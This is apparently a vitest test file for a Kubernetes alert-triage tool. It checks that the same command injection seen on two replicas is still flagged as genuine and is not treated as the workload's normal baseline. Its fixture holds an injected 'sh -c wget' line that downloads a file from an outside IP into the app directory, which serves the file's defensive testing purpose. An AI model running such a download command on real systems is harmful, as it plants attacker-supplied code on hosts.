/**
 * Red-team traps for workload-baseline's "the same command in several replicas of this workload across the export":
 * an attacker who exploits the same command injection on every replica (a scanner hits each pod behind the Service)
 * produces the same `sh -c "wget …"` under the application in two replicas. Repeating an injected shell script is not
 * the workload's baseline.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { correlate } from '../../../src/triage/correlate.js';
import { BatchCollector } from '../../../src/triage/batch.js';
import { alert, containerIdOf, indexOf, node, owner, pod } from '../../support/cluster.js';

const N = 'ip-10-0-1-10.ec2.internal';
const replica = (name: string, ip: string) =>
  pod(name, { namespace: 'shop', node: N, ip, owner: { kind: 'ReplicaSet', name: 'api-5f' }, containers: [{ name: 'api', image: 'shop/api:1.2', command: ['java', '-jar', '/app/api.jar'] }] });
const a1 = replica('api-5f-aaaaa', '10.1.0.7');
const a2 = replica('api-5f-bbbbb', '10.1.0.8');
const index = indexOf([node(N, '10.0.1.10'), owner('ReplicaSet', 'api-5f', 'shop', { kind: 'Deployment', name: 'api' }), owner('Deployment', 'api', 'shop'), a1, a2]);
const injected = (p: typeof a1) =>
  alert({
    host: N,
    container: { id: containerIdOf(p) },
    title: 'Download tool executed',
    process: { name: 'wget', path: '/usr/bin/wget', commandLine: 'wget -q http://198.51.100.7/a -O /var/lib/app/a' },
    ancestors: [{ name: 'sh', commandLine: 'sh -c wget -q http://198.51.100.7/a -O /var/lib/app/a' }, { name: 'java', commandLine: 'java -jar /app/api.jar' }],
  });

describe('redteam2 workload-baseline: the same injected command on two replicas', () => {
  it('trap: wget under sh -c under java -jar on both replicas stays genuine', () => {
    const alerts = [injected(a1), injected(a2)];
    const batch = new BatchCollector();
    for (const a of alerts) batch.add(a, correlate(a, index), index);
    for (const a of alerts) expect(triageAlert(a, { index, batch: batch.stats }).verdict.label).toBe('genuine');
  });
});
